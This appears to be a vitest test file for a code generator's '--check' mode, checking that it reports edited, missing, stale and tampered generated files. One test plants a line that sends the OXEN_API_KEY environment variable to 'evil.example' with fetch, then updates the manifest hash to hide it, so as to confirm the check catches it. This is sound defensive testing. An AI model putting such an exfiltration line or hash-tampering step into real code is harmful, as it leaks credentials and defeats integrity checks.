/**
 * `npm run generate -- --check` writes nothing and exits 1 listing every file that would change;
 * it compares the bytes of regenerated files, so a file edited together with its hash in
 * `generated/manifest.json` fails it too.
 */
import { appendFile, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { generate } from '../../generator/index.ts';
import { hash } from '../../generator/output/manifest.ts';
import { existingRootState } from '../../generator/output/run-state.ts';
import { tempSpecs } from './helpers.ts';
import { hashTree, runGenerate } from '../support/index.ts';

const run = (args: string[]) => runGenerate(args);

describe('generate --check', () => {
  it(
    'passes on the committed generated/ (it is what the generator makes from specs/)',
    { timeout: 60_000 },
    async () => {
      const r = await generate({ check: true });
      expect({ added: r.added, changed: r.changed, removed: r.removed }).toEqual({
        added: [],
        changed: [],
        removed: [],
      });
    },
  );

  // generated/manifest.json lets a run reuse a file whose inputs did not change: a hand edit must still be found
  it('exits 1 listing every changed, missing and stale file, and writes nothing', { timeout: 90_000 }, async () => {
    const t = await tempSpecs(['flux-2-pro', 'gpt-4o-mini', 'google-veo-3-1']);
    try {
      await generate({ specsDir: t.specsDir, outRoot: t.root });
      const g = path.join(t.root, 'generated');
      await appendFile(path.join(g, 'models/flux-2-pro.ts'), '// hand edit\n');
      await rm(path.join(g, 'models/gpt-4o-mini.ts'));
      await mkdir(path.join(g, 'models'), { recursive: true });
      await writeFile(path.join(g, 'models/stale-model.ts'), 'export {};\n');
      const before = hashTree(g);
      const r = await run(['--check', '--specs', t.specsDir, '--out', t.root]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('changed  generated/models/flux-2-pro.ts');
      expect(r.stderr).toContain('added    generated/models/gpt-4o-mini.ts');
      expect(r.stderr).toContain('removed  generated/models/stale-model.ts');
      expect(r.stderr).toContain('3 files would change');
      expect(hashTree(g)).toEqual(before);
      // a plain run repairs it, after which --check exits 0 (and nothing was rebuilt but what was wrong)
      const fix = await run(['--specs', t.specsDir, '--out', t.root]);
      expect(fix.code).toBe(0);
      const ok = await run(['--check', '--specs', t.specsDir, '--out', t.root]);
      expect(ok.code).toBe(0);
      expect(ok.stdout).toContain('up to date');
    } finally {
      await t.cleanup();
    }
  });
});

describe('generate --check and the manifest', () => {
  it(
    'finds a hand edit of any kind of generated file, even though unchanged inputs let a run reuse files',
    { timeout: 90_000 },
    async () => {
      const t = await tempSpecs(['flux-2-pro', 'gpt-4o-mini']);
      try {
        const first = await generate({ specsDir: t.specsDir, outRoot: t.root });
        expect(first.rebuilt.length).toBe(first.files.size - 1); // everything but the manifest itself
        const again = await generate({ specsDir: t.specsDir, outRoot: t.root });
        expect(again.rebuilt).toEqual([]); // up to date: every file reused through generated/manifest.json
        const edited = [
          'generated/models/flux-2-pro.ts',
          'generated/validators/flux-2-pro.ts',
          'generated/index.ts',
          'generated/openapi.ts',
          'generated/MODELS.md',
          'generated/manifest.json',
        ];
        for (const file of edited) {
          const full = path.join(t.root, file);
          const original = await readFile(full, 'utf8');
          await writeFile(
            full,
            file.endsWith('.json')
              ? original.replace(/"inputs": "[0-9a-f]{8}/, '"inputs": "00000000')
              : original.replace(/\n$/, '\n// hand edit\n'),
          );
          const r = await generate({ specsDir: t.specsDir, outRoot: t.root, check: true });
          expect(r.changed, file).toEqual([file]);
          await writeFile(full, original);
        }
        // a changed input is a real difference: the model's own file, its parameter type, its validator and the reference (the index names the type only)
        const modelFile = path.join(t.specsDir, 'models', 'flux-2-pro.json');
        const model = JSON.parse(await readFile(modelFile, 'utf8')) as {
          json_request_schema: { properties: Record<string, unknown> };
        };
        model.json_request_schema.properties['new_param'] = { type: 'string' };
        await writeFile(modelFile, JSON.stringify(model));
        const drift = await generate({ specsDir: t.specsDir, outRoot: t.root, check: true });
        expect(drift.changed).toEqual([
          'generated/MODELS.md',
          'generated/manifest.json',
          'generated/models/flux-2-pro.ts',
          'generated/params/flux-2-pro.ts',
          'generated/validators/flux-2-pro.ts',
        ]);
        expect(drift.rebuilt).toContain('generated/index.ts'); // its inputs changed, its text did not
      } finally {
        await t.cleanup();
      }
    },
  );
});

describe('generate --check does not trust the manifest', () => {
  it(
    'code injected into a generated file, with its content hash updated in manifest.json: exit 1 naming the file',
    { timeout: 180_000 },
    async () => {
      const t = await tempSpecs(['flux-2-pro', 'gpt-4o-mini']);
      try {
        await generate({ specsDir: t.specsDir, outRoot: t.root });
        const file = 'generated/models/flux-2-pro.ts';
        const full = path.join(t.root, file);
        const injected = `${await readFile(full, 'utf8')}void fetch('https://evil.example/?k=' + process.env['OXEN_API_KEY']);\n`;
        await writeFile(full, injected);
        const manifestFile = path.join(t.root, 'generated', 'manifest.json');
        const manifest = JSON.parse(await readFile(manifestFile, 'utf8')) as {
          files: Record<string, { content: string }>;
        };
        manifest.files[file]!.content = hash(injected);
        await writeFile(manifestFile, `${JSON.stringify(manifest, null, 2)}\n`);
        // with this machine's record of what it built, and on a machine without one (a CI runner)
        for (const record of ['kept', 'removed']) {
          if (record === 'removed') await rm(existingRootState(t.root)!.built, { force: true });
          const r = await run(['--check', '--specs', t.specsDir, '--out', t.root]);
          expect(r.code, `${record}: ${r.stdout}${r.stderr}`).toBe(1);
          expect(r.stderr).toContain(`changed  ${file}`);
          expect(r.stderr).toContain('changed  generated/manifest.json'); // its tampered hash, too
        }
      } finally {
        await t.cleanup();
      }
    },
  );
});
